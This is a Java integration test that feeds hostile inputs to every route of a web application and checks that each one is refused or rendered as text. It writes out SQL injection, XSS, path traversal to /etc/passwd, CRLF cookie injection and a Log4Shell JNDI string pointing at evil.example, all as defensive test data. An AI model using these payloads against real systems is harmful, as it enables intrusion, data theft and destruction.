package io.dmm.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.ArgumentMatchers.argThat;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;

import io.dmm.db.account.Role;
import io.dmm.db.request.TransferRequest;
import io.dmm.db.testing.TestDatabase;
import io.dmm.web.testing.Network;
import io.dmm.web.testing.TestWeb;
import io.javalin.http.HandlerType;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.OptionalInt;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every address is given what an attacker would send, by somebody who may do everything. */
class HostileInputIT {
  private static final String SCRIPT = "<script>alert(1)</script>";
  private static final List<String> HOSTILE =
      List.of(
          "' or '1'='1",
          "1; drop table request; --",
          SCRIPT,
          "\"><img src=x onerror=alert(1)>",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "x\r\nSet-Cookie: dmm_session=planted",
          "${jndi:ldap://evil.example/a}",
          "\u202e\ud83d\udca5",
          "-1",
          "99999999999999999999",
          "NaN",
          "a".repeat(3000));

  @RegisterExtension static final TestDatabase db = new TestDatabase();
  private static TestWeb web;
  private static String[] admin;
  private static TransferRequest request;

  @BeforeAll
  static void start() {
    web = TestWeb.start(db.get());
    admin =
        new String[] {
          "Authorization",
          "Bearer "
              + web.accounts().createToken("root", Role.ADMIN, Duration.ofDays(1), "test").reveal()
        };
    Network network = new Network(db.get(), web.clock().instant());
    request = network.request();
    network.circuit(request);
    db.get()
        .transact(
            tx ->
                tx.execute(
                    "update request set did_name = ?, source_rse = ?, status_reason = ?",
                    SCRIPT,
                    "\"><img src=x onerror=alert(1)>",
                    SCRIPT));
  }

  @AfterAll
  static void stop() {
    web.close();
  }

  static List<Routes.Address> reads() {
    return web.routes().all().stream()
        .filter(one -> one.method().equals(HandlerType.GET) && !one.path().equals(Routes.STREAM))
        .toList();
  }

  static List<Routes.Address> changes() {
    return web.routes().all().stream()
        .filter(one -> !one.method().equals(HandlerType.GET))
        .toList();
  }

  @ParameterizedTest
  @MethodSource("reads")
  void whatStandsInThePathOrInAParameterIsNeverMoreThanText(Routes.Address address) {
    for (String hostile : HOSTILE) {
      String encoded = TestWeb.encoded(hostile).replace("+", "%20");
      if (address.path().contains("{")) {
        HttpResponse<String> answer =
            web.browse(address.path().replaceAll("\\{[a-z_]+}", encoded), admin);
        assertThat(answer.statusCode()).as(hostile).isBetween(303, 499);
        assertHarmless(answer);
      }
      HttpResponse<String> answer =
          web.browse(
              real(address.path())
                  + "?session=x&q=%1$s&search=%1$s&status=%1$s&sort=%1$s&order=%1$s&page=%1$s&limit=%1$s&done=%1$s&next=%1$s&level=%1$s&rule_id=%1$s&wait=%1$s"
                      .replace(
                          "%1$s", encoded.length() > 1000 ? encoded.substring(0, 500) : encoded),
              admin);
      assertThat(answer.statusCode()).as(hostile).isLessThan(500);
      assertHarmless(answer);
    }
    assertNothingLost();
  }

  @ParameterizedTest
  @MethodSource("reads")
  void aParameterThatNobodyKnowsChangesNothingOrIsRefused(Routes.Address address) {
    int plain = web.get(real(address.path()), admin).statusCode();

    assertThat(web.get(real(address.path()) + "?session=x&tx=1&ctx=y&self=z", admin).statusCode())
        .isEqualTo(address.query().isPresent() ? 400 : plain)
        .isLessThan(500);
  }

  @ParameterizedTest
  @MethodSource("changes")
  void aBodyThatMakesNoSenseIsRefusedOrIgnored(Routes.Address address) {
    List<String> bodies =
        List.of(
            "",
            "{",
            "[]",
            "null",
            "\"text\"",
            "{\"rule_id\": {}}",
            "{\"rule_id\": \"x\", \"limit\": \"'; drop table request\"}",
            "{\"rule_id\": \"" + SCRIPT + "\", \"limit\": 0}",
            "{\"rule_id\": \"x\", \"limit\": 1e999}",
            "[".repeat(30_000),
            "{\"a\":".repeat(5_000),
            "\u0000\u0001\u0002");
    for (String body : bodies) {
      HttpResponse<String> answer =
          web.send(
              web.request(real(address.path()), admin)
                  .setHeader("Content-Type", "application/json")
                  .method(address.method().name(), HttpRequest.BodyPublishers.ofString(body)));
      assertThat(answer.statusCode()).as(body).isLessThan(500);
      assertHarmless(answer);
    }
    HttpResponse<String> huge =
        web.send(
            web.request(real(address.path()), admin)
                .setHeader("Content-Type", "application/json")
                .method(
                    address.method().name(),
                    HttpRequest.BodyPublishers.ofString(
                        "{\"rule_id\": \"" + "x".repeat(100_000) + "\"}")));
    assertThat(huge.statusCode()).isLessThan(500);
    HttpResponse<String> form =
        web.send(
            web.request(real(address.path()), admin)
                .setHeader("Content-Type", "multipart/form-data; boundary=")
                .method(address.method().name(), HttpRequest.BodyPublishers.ofString("--\r\n")));
    assertThat(form.statusCode()).isLessThan(500);
    assertHarmless(form);
    verify(web.actions(), never())
        .overrideStreams(anyString(), argThat(OptionalInt::isPresent), anyString());
    assertNothingLost();
  }

  @Test
  void anIdThatNobodyHasIsNotFound() {
    for (Routes.Address address : reads()) {
      if (address.path().contains("{") && !address.path().contains("{secret}")) {
        String path = address.path().replace("{id}", "4711").replaceAll("\\{[a-z_]+}", "unknown");
        assertThat(web.get(path, admin).statusCode()).as(path).isEqualTo(404);
      }
    }
  }

  @Test
  void namesThatAreMarkupAreShownAsText() {
    for (String page : List.of("/", "/details/" + request.ruleId(), "/decisions", "/network")) {
      HttpResponse<String> answer = web.browse(page, admin);
      assertThat(answer.statusCode()).as(page).isEqualTo(200);
      assertHarmless(answer);
    }
    assertThat(web.browse("/details/" + request.ruleId(), admin).body())
        .contains("&lt;script&gt;alert(1)&lt;/script&gt;");
  }

  @Test
  void noPageHoldsScriptOrStyleOfItsOwn() {
    for (Routes.Address address : reads()) {
      HttpResponse<String> answer = web.browse(real(address.path()), admin);
      if (answer.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
        assertThat(answer.body())
            .as(address.path())
            .doesNotContainPattern("<script(?![^>]*\\bsrc=)")
            .doesNotContainPattern("(?i)<style|(href|src|action)=\"javascript:");
        assertThat(answer.body().replaceAll("\"[^\"]*\"", "\"\""))
            .as(address.path())
            .doesNotContainPattern("(?i)<[a-z][^>]*\\s(style|on[a-z]+)\\s*=");
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/static/../openapi.yaml",
        "/static/%2e%2e/openapi.yaml",
        "/static/..%2fopenapi.yaml",
        "/static/..%5copenapi.yaml",
        "/static/....//openapi.yaml",
        "/static/%252e%252e%252fopenapi.yaml",
        "/static//etc/passwd",
        "/static/app.css%00.html",
        "/static/app.css/",
        "/..;/static/app.css",
        "/static;x=y/../logs"
      })
  void nothingButTheStaticFilesCanBeReachedBelowStatic(String path) throws IOException {
    String answer = raw("GET " + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

    assertThat(answer).doesNotContain("openapi:", "root:", "\tat ", "Exception");
    if (answer.startsWith("HTTP/1.1 2")) {
      assertThat(answer).contains("Content-Type: text/css");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Authorization: Bearer \u00e4\u00f6",
        "Authorization: Bearer",
        "Authorization: Bearer dmm_' or '1'='1",
        "Cookie: dmm_session='; drop table web_session; --",
        "Cookie: dmm_session=a; dmm_session=b",
        "Cookie: =;;;=\u0001",
        "X-Forwarded-For: ' , <script>, 1.2.3.4.5",
        "Accept: text/html\t<script>",
        "If-None-Match: ${x}",
        "Last-Event-ID: '; drop table event",
        "Content-Length: 99999999999999999999",
        "Transfer-Encoding: chunked, chunked"
      })
  void aHeaderIsNeverMoreThanText(String header) throws IOException {
    String answer =
        raw("GET /logs HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + header + "\r\n\r\n");

    assertThat(answer)
        .matches("(?s)HTTP/1\\.1 (303|4\\d\\d).*")
        .doesNotContain("\tat ", "Exception", "<script>");
    assertNothingLost();
  }

  /** What is no page is never read as one: the browser is told to believe the content type. */
  private static void assertHarmless(HttpResponse<String> answer) {
    String type = answer.headers().firstValue("Content-Type").orElse("");
    if (type.startsWith("text/html")) {
      assertThat(answer.body()).doesNotContain("<script>alert", "<img src=x");
    }
    assertThat(answer.headers().firstValue("X-Content-Type-Options").orElse("nosniff"))
        .isEqualTo("nosniff");
    assertThat(answer.body()).doesNotContain("\tat io.dmm", "org.jooq", "root:x:0");
    assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(one -> one.contains("planted"));
  }

  private static void assertNothingLost() {
    Object rows = db.get().read(tx -> tx.fetchValue("select count(*) from request"));
    assertThat(rows).isEqualTo(1L);
  }

  private static String real(String path) {
    return path.replace("{rule_id}", request.ruleId())
        .replace("{action}", "finish")
        .replace("{id}", "1")
        .replace("{file}", "app.css")
        .replaceAll("\\{[a-z_]+}", "x");
  }

  private static String raw(String text) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), web.server().port())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(text.getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    }
  }
}
